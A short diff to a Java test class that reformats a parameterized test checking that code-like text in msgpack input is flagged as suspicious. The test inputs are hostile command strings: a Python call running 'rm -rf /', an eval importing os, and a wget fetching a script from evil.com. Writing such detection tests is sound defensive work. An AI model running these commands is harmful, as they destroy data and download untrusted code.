@@ -67,7 +67,11 @@ class MsgpackFormatTest {
 
   @ParameterizedTest
   @ValueSource(
-      strings = {"os.system('rm -rf /')", "lambda x: eval('__import__(\"os\")')", "wget http://evil.com/x.sh"})
+      strings = {
+        "os.system('rm -rf /')",
+        "lambda x: eval('__import__(\"os\")')",
+        "wget http://evil.com/x.sh"
+      })
   void textsThatAreCodeAreSuspicious(String text) throws Exception {
     assertThat(rules(inspect(params().text(text)))).containsExactly("msgpack-text");
     assertThat(rules(inspect(params().binary(text.getBytes(StandardCharsets.UTF_8)))))
